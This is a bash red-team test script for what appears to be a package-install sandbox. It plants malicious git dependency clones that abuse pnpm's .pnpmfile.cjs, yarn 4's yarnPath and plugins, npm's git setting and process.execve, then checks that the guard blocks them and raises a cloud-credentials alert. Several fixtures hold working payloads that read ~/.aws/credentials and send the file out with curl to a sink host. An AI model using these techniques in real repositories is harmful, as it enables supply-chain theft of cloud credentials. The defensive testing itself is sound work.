#!/bin/bash
# R58: files of a git dependency's own repository that make the manager, working in the clone, run
# code of it: pnpm's .pnpmfile.cjs, yarn 4's yarnPath and plugins, npm's git. Programs that a plugin
# starts are a limit (SECURITY.md). What an honest clone depends on is fetched.
# vm: no (git, and downloads the managers)
set -u
cd "$(dirname "$0")/../.." || exit 2
. tests/redteam/lib.sh
. tests/redteam/managers.sh
command -v git >/dev/null || { echo 'SKIP: git is not installed'; exit 77; }
[ -n "${LAB_INSIDE:-}" ] || managers_fetch pnpm10 yarn4

rt_begin R58 "settings of a git dependency's clone"
RT_HONEST=(ms) RT_SCRIPTED=() RT_DEPENDENCIES=()
RT_ATTACKERS=('clone-x 1.0.0 pnpm-install')
steal() { printf "require('child_process').execFileSync('curl', ['-s', '--data-binary', \
require('fs').readFileSync('%s'), 'http://%s/%s']);" "$RT_HOME/.aws/credentials" "$RT_SINK" "$1"; }
# What the clone holds besides its package.json, on each lane.
clone_pnpmfile() {
	steal pnpmfile >.pnpmfile.cjs
	printf "lockfileVersion: '9.0'\n\nimporters:\n\n  .: {}\n" >pnpm-lock.yaml
}
clone_yarnpath() {
	steal yarnpath >evil.cjs
	echo 'yarnPath: ./evil.cjs' >.yarnrc.yml
	: >yarn.lock
}
clone_plugin() {
	{ echo 'module.exports = { name: "p", factory: () => {'; steal plugin
		echo 'return {}; } };'; } >evil.cjs
	printf 'plugins:\n  - ./evil.cjs\n' >.yarnrc.yml
	printf '__metadata:\n  version: 8\n' >yarn.lock
}
clone_npmrc() { # yarn starts npm in a clone with npm's lockfile, and npm what is to be its git
	{ echo '#!/usr/bin/env node'; steal npmrc; } >git.js && chmod 755 git.js
	echo 'git=./git.js' >.npmrc
	echo '{"name":"clone-x","version":"1.0.0","scripts":{"prepare":"true"},
		"devDependencies":{"inner":"git://127.0.0.1:9418/inner.git"}}' >package.json
	echo '{"name":"clone-x","version":"1.0.0","lockfileVersion":3,"packages":{}}' \
		>package-lock.json
}
clone_shell() { # the same, by a script of sh that starts a program
	clone_npmrc
	printf '#!/bin/sh\ncurl -s --data-binary @%s http://%s/shell\n' \
		"$RT_HOME/.aws/credentials" "$RT_SINK" >git.js
}
clone_execve() { # node 22.15 and later; the manager's process becomes another program
	printf 'module.exports = { name: "p", factory: () => { %s return {}; } };\n' \
		"process.execve('/usr/bin/curl', ['curl', '-s', '--data-binary', \
'@$RT_HOME/.aws/credentials', 'http://$RT_SINK/execve'], process.env);" >evil.cjs
	printf 'plugins:\n  - ./evil.cjs\n' >.yarnrc.yml
	printf '__metadata:\n  version: 8\n' >yarn.lock
}
clone_program() { # a limit
	printf 'module.exports = { name: "p", factory: () => { %s return {}; } };\n' \
		"require('child_process').execFileSync('curl', ['-s', '--data-binary', \
'@$RT_HOME/.aws/credentials', 'http://$RT_SINK/program']);" >evil.cjs
	printf 'plugins:\n  - ./evil.cjs\n' >.yarnrc.yml
	printf '__metadata:\n  version: 8\n' >yarn.lock
}
DAEMON=
rt_setup() {
	[ -z "$DAEMON" ] || kill "$DAEMON"
	local dir=$RT_HOME/src/clone-x
	mkdir -p "$dir"
	(cd "$dir" && echo '{"name":"clone-x","version":"1.0.0","scripts":{"prepare":"true"}}' \
		>package.json && "clone_$KIND")
	chown -R "$LAB_UID:$LAB_GID" "$RT_HOME/src"
	lab_as_user "$dir" sh -c 'git init -q -b main && git config user.email ci@localhost &&
		git config user.name ci && git add -A && git commit -qm first &&
		ln -s clone-x ../clone-x.git'
	setpriv --reuid="$LAB_UID" --regid="$LAB_GID" --clear-groups env HOME="$RT_HOME" \
		git daemon --export-all --reuseaddr --listen=127.0.0.1 --base-path="$RT_HOME/src" \
		>"$LAB/daemon" 2>&1 &
	DAEMON=$!
	sleep 0.5
	(cd "$RT_PROJECT" && node -e '
		const fs = require("fs"), p = JSON.parse(fs.readFileSync("package.json"));
		const [dir, registry, manager] = process.argv.slice(1);
		p.dependencies["clone-x"] = `git://127.0.0.1:9418/clone-x.git`;
		fs.writeFileSync("pnpm-workspace.yaml", `dangerouslyAllowAllBuilds: true\n`);
		fs.writeFileSync("package.json", JSON.stringify(p, null, 2));
		if (manager === "yarn4") {
			fs.writeFileSync(".yarnrc.yml", [`npmRegistryServer: "${registry}"`,
				"unsafeHttpWhitelist: [\"127.0.0.1\"]",
				"nodeLinker: node-modules", "npmMinimalAgeGate: 0",
				"enableTelemetry: false",
				"approvedGitRepositories: [\"**\"]", ""].join("\n"));
			fs.writeFileSync("yarn.lock", "");
		}' "$dir" "$LAB_REGISTRY" "$MANAGER")
	chown -R "$LAB_UID:$LAB_GID" "$RT_PROJECT"
}
rows='pnpm10:pnpmfile npm:npmrc npm:shell yarn4:yarnpath yarn4:plugin yarn4:npmrc yarn4:program'
if node -e 'process.exit(!process.execve)'; then
	rows+=' yarn4:execve'
else
	echo '# yarn4:execve left out: this node has no process.execve'
fi
for row in ${ROWS:-$rows}; do
	MANAGER=${row%:*} KIND=${row#*:}
	managers_have "$MANAGER" || { echo "# $row left out: unavailable"; continue; }
	bin=$MANAGERS/$MANAGER/node_modules/.bin
	case $MANAGER in
	pnpm10)
		RT_COMMAND=("$bin/pnpm" install --no-frozen-lockfile)
		RT_ENV=(PATH="$bin:$LAB_PATH")
		;;
	npm) RT_COMMAND=(npm install) RT_ENV=() ;;
	yarn4)
		RT_COMMAND=("$bin/yarn" install)
		RT_ENV=(YARN_ENABLE_IMMUTABLE_INSTALLS=false)
		;;
	esac
	rt_control "$KIND"
	rt_leaked .aws/credentials
	rt_guarded "$KIND" || continue
	rt_no_survivors
	[ "$KIND" != program ] || { rt_leaked .aws/credentials; continue; } # SECURITY.md
	rt_is 'exit status' "$RT_STATUS" 86
	rt_ok 'it is accused' rt_events wormsign.verdict=kill rule.id=cloud-credentials
	rt_silent
done

# Honest: what the clone itself depends on is fetched by ssh, with the user's key.
rt_tool ssh <<'END'
#!/bin/sh
[ -s "$HOME/.ssh/id_ed25519" ] && read -r _ <"$HOME/.ssh/id_ed25519" || exit 1
for word; do :; done
exec sh -c "$word"
END
clone_ssh() {
	mkdir -p ../inner/.github/workflows && echo 'on: push' >../inner/.github/workflows/a.yml
	echo '{"name":"inner","version":"1.0.0"}' >../inner/package.json
	printf '{"name":"clone-x","version":"1.0.0","scripts":{"prepare":"true"},
		"devDependencies":{"inner":"git+ssh://ci@localhost%s/src/inner"}}' "$RT_HOME" \
		>package.json
	chown -R "$LAB_UID:$LAB_GID" ../inner
	lab_as_user "$RT_HOME/src/inner" sh -c 'git init -q -b main && git config user.name ci &&
		git config user.email ci@localhost && git add -A && git commit -qm first'
}
MANAGER=npm KIND=ssh RT_COMMAND=(npm install) RT_ENV=() RT_ATTACKERS=()
if rt_guarded ssh; then
	rt_peaceful
fi
[ -z "$DAEMON" ] || kill "$DAEMON"
rt_end
